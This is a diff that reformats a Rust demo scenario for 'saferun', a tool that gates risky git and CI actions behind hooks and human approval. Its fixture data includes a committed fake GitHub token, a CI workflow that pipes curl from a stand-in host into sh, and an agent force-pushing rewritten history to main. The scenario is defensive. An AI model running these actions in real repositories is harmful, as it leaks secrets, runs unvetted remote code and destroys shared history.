@@ -22,7 +22,9 @@ pub(super) const ALL: &[(&str, Step)] = &[
 ];
 
 fn guard(play: &Play<'_>) -> Result<(), Failure> {
-    play.voice.tell(&["One command puts hooks into a repository. Hooks that are there would keep running."])?;
+    play.voice.tell(&[
+        "One command puts hooks into a repository. Hooks that are there would keep running.",
+    ])?;
     play.voice.command(You.name(), "saferun init");
     let done = play.stage.saferun(You, &["init"])?;
     play.voice.output(&done.output)?;
@@ -33,19 +35,26 @@ fn guard(play: &Play<'_>) -> Result<(), Failure> {
 fn secret(play: &Play<'_>) -> Result<(), Failure> {
     play.voice.tell(&["Somebody writes a token into a settings file and commits it."])?;
     let token = ["gh", "p_", "k3Wq8RzT1xLb", "5YvN0cJm7HdF", "2sGp9aUe4Qo6"].concat();
-    play.stage.write("project/settings.py", &format!("TIMEOUT = 30\nGITHUB_TOKEN = \"{token}\"\n"))?;
+    play.stage
+        .write("project/settings.py", &format!("TIMEOUT = 30\nGITHUB_TOKEN = \"{token}\"\n"))?;
     stage_file(play, "settings.py")?;
     let before = play.stage.ask_git(&["rev-parse", "HEAD"])?;
     let done = commit(play, "Add settings")?;
     expect(done.code != 0, || "the commit was not blocked".to_owned())?;
-    expect(play.stage.ask_git(&["rev-parse", "HEAD"])? == before, || "there is a commit".to_owned())?;
+    expect(play.stage.ask_git(&["rev-parse", "HEAD"])? == before, || {
+        "there is a commit".to_owned()
+    })?;
     expect(!done.output.contains(&token), || "the secret was printed".to_owned())?;
     play.stage.git(You, &["rm", "--quiet", "--cached", "settings.py"])?;
-    play.voice.done("blocked before it was history; `git commit --no-verify` would only move this to the push")
+    play.voice.done(
+        "blocked before it was history; `git commit --no-verify` would only move this to the push",
+    )
 }
 
 fn workflow(play: &Play<'_>) -> Result<(), Failure> {
-    play.voice.tell(&["What CI runs, it runs with the repository's secrets. An agent adds a workflow."])?;
+    play.voice.tell(&[
+        "What CI runs, it runs with the repository's secrets. An agent adds a workflow.",
+    ])?;
     let text = "name: CI\non: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://get.example.com/install | sh\n";
     play.stage.write("project/.github/workflows/ci.yml", text)?;
     stage_file(play, ".github")?;
@@ -64,14 +73,21 @@ fn workflow(play: &Play<'_>) -> Result<(), Failure> {
     expect(subject == "Add CI", || format!("the newest commit is `{subject}`"))?;
     let state = play.approver.state(&request.id)?;
     expect(state == ApprovalState::Used, || format!("the approval is {state}"))?;
-    play.voice.done(&format!("the waiting commit was made {took} ms after your answer; the approval is used up"))
+    play.voice.done(&format!(
+        "the waiting commit was made {took} ms after your answer; the approval is used up"
+    ))
 }
 
 fn force_push(play: &Play<'_>) -> Result<(), Failure> {
-    play.voice.tell(&["The agent \"cleans up\": it rewrites a commit that others have, and force pushes main."])?;
+    play.voice.tell(&[
+        "The agent \"cleans up\": it rewrites a commit that others have, and force pushes main.",
+    ])?;
     succeeded("git push", &play.stage.git(You, &["push", "--quiet", "origin", "main"])?)?;
     let theirs = remote_main(play)?;
-    for arguments in [&["reset", "--quiet", "HEAD~1"][..], &["commit", "--quiet", "--amend", "-m", "Tidy history"]] {
+    for arguments in [
+        &["reset", "--quiet", "HEAD~1"][..],
+        &["commit", "--quiet", "--amend", "-m", "Tidy history"],
+    ] {
         succeeded(&format!("git {}", arguments.join(" ")), &play.stage.git(Agent, arguments)?)?;
     }
     play.voice.command(Agent.name(), "git push --force origin main");
@@ -112,7 +128,9 @@ fn undo(play: &Play<'_>) -> Result<(), Failure> {
 }
 
 fn audit(play: &Play<'_>) -> Result<(), Failure> {
-    play.voice.tell(&["Every decision and answer was written down, each entry chained to the one before."])?;
+    play.voice.tell(&[
+        "Every decision and answer was written down, each entry chained to the one before.",
+    ])?;
     play.voice.command(You.name(), "saferun history");
     let done = play.stage.saferun(You, &["history"])?;
     play.voice.output(&done.output)?;
@@ -145,9 +163,16 @@ fn show(play: &Play<'_>, request: &ApprovalView) -> Result<(), Failure> {
     play.voice.tell(&["", "It waits. A person opens this page, on a phone for instance:"])?;
     let mut lines = vec![
         format!("  {}", play.approver.page(&request.id)),
-        format!("  {} by {}, risk {:.1}", request.operation, visible_line(&request.caller.display()), request.risk),
+        format!(
+            "  {} by {}, risk {:.1}",
+            request.operation,
+            visible_line(&request.caller.display()),
+            request.risk
+        ),
     ];
-    lines.extend(request.reasons.iter().map(|reason| format!("    {}", visible_line(&reason.message))));
+    lines.extend(
+        request.reasons.iter().map(|reason| format!("    {}", visible_line(&reason.message))),
+    );
     play.voice.tell(&lines.iter().map(String::as_str).collect::<Vec<_>>())
 }
 
